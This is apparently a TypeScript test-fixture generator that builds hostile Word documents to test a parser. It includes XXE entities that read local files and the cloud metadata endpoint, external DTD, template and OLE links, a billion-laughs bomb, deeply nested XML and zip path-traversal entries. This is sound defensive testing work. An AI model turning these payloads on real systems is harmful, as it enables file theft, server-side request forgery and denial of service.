import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import type { Honest } from './honest-files.ts';
import type { HostileFile, Lures } from './hostile-files.ts';

/** Word files that ask for what lies outside them, or unfold without end. */
export function hostileDocx(honest: Honest[], { file, url }: Lures): HostileFile[] {
  const docx = honest.find((h) => h.kind === 'docx')!.bytes;
  const withPart = (name: string, change: (xml: string) => string) => {
    const parts = unzipSync(docx);
    parts[name] = strToU8(change(parts[name] ? strFromU8(parts[name]) : ''));
    return zipSync(parts);
  };
  const entity = (uri: string) => (xml: string) =>
    xml
      .replace(/<w:document/, `<!DOCTYPE w [<!ENTITY x SYSTEM "${uri}">]><w:document`)
      .replace('</w:t>', '&x;</w:t>');
  const relation = (type: string, target: string) => (xml: string) =>
    xml.replace(
      '</Relationships>',
      `<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
    );
  const picture =
    '<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:link="rIdX"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>';
  const linked = (target: string) => {
    const parts = unzipSync(withPart('word/_rels/document.xml.rels', relation('image', target)));
    parts['word/document.xml'] = strToU8(
      strFromU8(parts['word/document.xml']!).replace('</w:p>', `${picture}</w:p>`),
    );
    return zipSync(parts);
  };
  const laughs = `<!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">${'cdefghij'
    .split('')
    .map((c, i) => `<!ENTITY ${c} "${`&${'bcdefghi'[i]};`.repeat(10)}">`)
    .join('')}]>`;
  const targets: [string, string][] = [
    ['fichier', `file://${file}`],
    ['adresse', url],
    ['métadonnées', 'http://169.254.169.254/latest/meta-data/'],
    ['réseau', '\\\\serveur\\partage\\secret.png'],
    ['zéro', 'file:///dev/zero'],
  ];
  return [
    ...targets.map(([name, uri]) => ({
      name: `entité ${name}`,
      bytes: withPart('word/document.xml', entity(uri)),
    })),
    ...targets.map(([name, uri]) => ({ name: `image liée ${name}`, bytes: linked(uri) })),
    {
      name: 'dtd externe',
      bytes: withPart('word/document.xml', (xml) =>
        xml.replace(/<w:document/, `<!DOCTYPE w SYSTEM "${url}"><w:document`),
      ),
    },
    {
      name: 'entité dans les styles',
      bytes: withPart('word/styles.xml', (xml) =>
        xml.replace(/<w:styles/, `<!DOCTYPE s [<!ENTITY x SYSTEM "file://${file}">]><w:styles`),
      ),
    },
    {
      name: 'entité dans les relations',
      bytes: withPart('word/_rels/document.xml.rels', (xml) =>
        xml.replace(
          /<Relationships/,
          `<!DOCTYPE r [<!ENTITY x SYSTEM "file://${file}">]><Relationships`,
        ),
      ),
    },
    {
      name: 'modèle attaché',
      bytes: withPart('word/_rels/document.xml.rels', relation('attachedTemplate', url)),
    },
    {
      name: 'objet lié',
      bytes: withPart('word/_rels/document.xml.rels', relation('oleObject', url)),
    },
    {
      name: 'rires',
      bytes: withPart('word/document.xml', (xml) =>
        xml.replace(/<w:document/, `${laughs}<w:document`).replace('</w:t>', '&j;</w:t>'),
      ),
    },
    {
      name: 'xml profond',
      bytes: withPart('word/document.xml', (xml) =>
        xml.replace('</w:body>', `${'<w:p>'.repeat(100_000)}${'</w:p>'.repeat(100_000)}</w:body>`),
      ),
    },
    { name: 'xml sans fin', bytes: withPart('word/document.xml', () => '<w:p '.repeat(2_000_000)) },
    {
      name: 'attribut sans fin',
      bytes: withPart('word/document.xml', () => `<w:p a="${'x"y="'.repeat(2_000_000)}`),
    },
    {
      name: 'équation profonde',
      bytes: withPart('word/document.xml', (xml) =>
        xml.replace(
          '</w:p>',
          `<m:oMath xmlns:m="x">${'<m:f><m:num>'.repeat(120)}${'</m:num></m:f>'.repeat(120)}</m:oMath></w:p>`,
        ),
      ),
    },
    {
      name: 'chemins',
      bytes: zipSync({
        ...unzipSync(docx),
        '../../evade.xml': strToU8('<a/>'),
        '/etc/passwd': strToU8('x'),
      }),
    },
    {
      name: 'sans document',
      bytes: zipSync({ '[Content_Types].xml': strToU8('<Types>wordprocessingml</Types>') }),
    },
  ];
}
